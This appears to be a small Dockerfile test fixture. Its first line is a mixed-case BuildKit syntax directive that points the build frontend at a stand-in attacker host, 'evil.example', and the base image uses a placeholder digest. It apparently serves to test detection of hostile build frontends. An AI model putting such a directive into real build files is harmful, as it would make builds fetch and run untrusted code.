#   SyNtAx  =  evil.example/frontend
FROM cyberprivacy/python@sha256:5a5a5a5a5a5a5a5a5a5a5a5a5a5a5a5a5a5a5a5a5a5a5a5a5a5a5a5a5a5a5a5a
USER 10001
CMD ["python3", "/app/main.py"]
